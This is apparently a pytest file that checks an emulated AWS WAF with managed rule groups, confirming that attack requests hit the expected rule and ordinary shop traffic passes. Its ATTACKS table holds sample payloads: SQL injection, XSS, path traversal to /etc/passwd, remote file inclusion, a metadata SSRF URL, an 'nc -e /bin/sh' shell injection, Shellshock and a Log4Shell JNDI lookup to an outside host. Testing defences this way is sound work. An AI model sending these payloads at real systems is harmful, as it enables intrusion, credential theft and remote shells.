"""AWS's managed rules by libmodsecurity and the OWASP Core Rule Set: attacks are stopped by the rule they belong to, people get through."""

from __future__ import annotations

from functools import partial

import pytest

from sandbox.waf.request import Request
from tests.unit.sandbox.waf.acls import acl, field, request, rule, verdict
from tests.unit.sandbox.waf.test_evaluation import managed

GROUPS = ["CommonRuleSet", "KnownBadInputsRuleSet", "SQLiRuleSet", "LinuxRuleSet", "UnixRuleSet"]
ALL = acl(*(managed(f"AWSManagedRules{name}", priority) for priority, name in enumerate(GROUPS)))

get = partial(request, host="shop.example", user_agent="Mozilla/5.0 (X11; Linux x86_64)")


def post(body: str, kind: str = "application/json", uri: str = "/orders") -> Request:
    return get(uri, method="POST", body=body.encode(), content_type=kind)


FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=b"

ATTACKS = {
    "SQLi_QUERYARGUMENTS": get("/?id=1%27%20or%20%271%27=%271"),
    "SQLi_COOKIE": get(cookie="sid=1' or 1=1 --"),
    "SQLi_BODY": post("1' union select password from users--", "text/plain"),
    "SQLiExtendedPatterns_QUERYARGUMENTS": get("/?id=x;%20waitfor%20delay%20'0:0:5'"),
    "SQLiExtendedPatterns_BODY": post('{"name": "x; waitfor delay \'0:0:5\'"}'),
    "CrossSiteScripting_QUERYARGUMENTS": get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "CrossSiteScripting_BODY": post('{"text": "<img src=x onerror=alert(1)>"}'),
    "CrossSiteScripting_COOKIE": get(cookie="theme=<script>alert(1)</script>"),
    "CrossSiteScripting_URIPATH": get("/p/%3Cscript%3Ealert(1)%3C/script%3E"),
    "GenericLFI_QUERYARGUMENTS": get("/?file=../../../etc/passwd"),
    "GenericLFI_URIPATH": get("/static/..%2f..%2f..%2fetc/passwd"),
    "GenericLFI_BODY": post("file=../../../../boot.txt", FORM),
    "GenericRFI_QUERYARGUMENTS": get("/?page=http://203.0.113.7/shell.txt"),
    "GenericRFI_BODY": post('{"url": "https://203.0.113.7/x"}'),
    "EC2MetaDataSSRF_BODY": post('{"url": "http://169.254.169.254/latest/meta-data/iam/"}'),
    "UNIXShellCommandsVariables_QUERYSTRING": get("/?host=a;cat%20/tmp/x%7Cnc%20-e%20/bin/sh"),
    "UNIXShellCommandsVariables_HEADER": get(x_probe="() { :; }; /bin/bash -c id"),
    "LFI_QUERYSTRING": get("/?f=/proc/version"),
    "Log4JRCE_HEADER": get(x_api_version="${jndi:ldap://203.0.113.7/a}"),
    "JavaDeserializationRCE_BODY": post("T(java.lang.Runtime).getRuntime().exec('id')", "text/plain"),
    "ReactJSRCE_BODY": post('--b\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then"}\r\n--b--\r\n', MULTIPART),
    "NoUserAgent_HEADER": request(host="shop.example"),
    "RestrictedExtensions_URIPATH": get("/backup.sql"),
}

# The common rule set, which runs before, knows this one too.
BESIDES = {"LFI_QUERYSTRING": "GenericLFI_QUERYARGUMENTS"}

PEOPLE = [
    get("/"),
    get("/products?q=select+a+shirt&size=M&sort=price"),
    get("/search?q=O%27Brien"),
    get("/search?q=rock+%27n%27+roll+and+union+jack"),
    get("/search?q=5+%3C+10+%26+10+%3E+5"),
    get("/search?q=drop+the+table+reservation"),
    get("/orders/2026-11-25?include=items,address"),
    get("/images/shirt%20blue.png", cookie="session=eyJhbGciOiJIUzI1NiJ9.e30.abc-_; theme=dark; consent=a%3A1"),
    get("/login?next=%2Forders%2F12%3Ftab%3Ditems"),
    post('{"name": "Siobhán O\'Brien", "note": "Please ring twice; the bell\'s broken."}'),
    post('{"email": "ada@example.com", "items": [{"id": "p-1", "count": 2}], "gift": true}'),
    post("name=O%27Brien&comment=I+love+it+%3C3+--+thanks%21", FORM),
    post("A plain text note about our meeting at 10:30; bring the drafts, please.", "text/plain"),
    post('--b\r\nContent-Disposition: form-data; name="cv"; filename="cv.txt"\r\n\r\nHello, world.\r\n--b--\r\n', MULTIPART),
    post('{"text": "' + "word " * 1600 + '"}'),
    post("<order><name>Ada</name></order>", "application/xml"),
]


def test_attacks_are_blocked_by_the_rule_they_belong_to(scanner):
    stopped = {}
    for name, asked in ATTACKS.items():
        found = verdict(ALL, asked, scanner=scanner)
        ended = [group.terminating.rule for group in found.groups if group.terminating]
        stopped[name] = ended[0] if ended else found.action
    wrong = {name: rule for name, rule in stopped.items() if rule not in (name, BESIDES.get(name))}
    assert wrong == {}


def test_people_get_through(scanner):
    stopped = {(asked.uri, asked.body[:60]): verdict(ALL, asked, scanner=scanner) for asked in PEOPLE}
    assert {asked: found.groups[-1].terminating for asked, found in stopped.items() if found.action != "ALLOW"} == {}


def test_what_cannot_be_read_as_what_it_says_is_read_as_text(scanner):
    for kind in ("application/json", MULTIPART, "image/png", ""):
        found = verdict(ALL, post("x=1' or '1'='1' union select * from users--", kind), scanner=scanner)
        assert found.action == "BLOCK", kind


def test_the_statements_of_ones_own_rules(scanner):
    attack = rule("sqli", {"SqliMatchStatement": field("SingleHeader", Name="x-id") | {"SensitivityLevel": "LOW"}})
    found = verdict(acl(attack), request(x_id="1' or 1=1--"), scanner=scanner)
    assert found.action == "BLOCK"
    (detail,) = found.details
    assert (detail["conditionType"], detail["sensitivityLevel"], detail["location"]) == ("SQL_INJECTION", "LOW", "HEADER")
    assert (detail["matchedFieldName"], detail["matchedData"][:4]) == ("x-id", ["1", "'", "or", "1"])
    assert verdict(acl(attack), request(x_id="O'Brien"), scanner=scanner).action == "ALLOW"
    script = rule("xss", {"XssMatchStatement": field("Body", OversizeHandling="CONTINUE")})
    found = verdict(acl(script), request(body=b"<script>alert(1)</script>"), scanner=scanner)
    assert (found.action, found.details[0]["conditionType"]) == ("BLOCK", "XSS")


@pytest.mark.parametrize(("level", "expected"), [("LOW", "ALLOW"), ("HIGH", "BLOCK")])
def test_high_sensitivity_finds_more(scanner, level, expected):
    statement = {"SqliMatchStatement": field("SingleHeader", Name="x-id") | {"SensitivityLevel": level}}
    assert verdict(acl(rule("sqli", statement)), request(x_id="x; waitfor delay '0:0:5'"), scanner=scanner).action == expected


def test_null_bytes_and_all_other_bytes_are_taken(scanner):
    body = bytes(range(256))
    assert verdict(ALL, get(method="POST", body=body, content_type=FORM), scanner=scanner).action in ("ALLOW", "BLOCK")
    assert not scanner.is_sqli(body, "LOW")
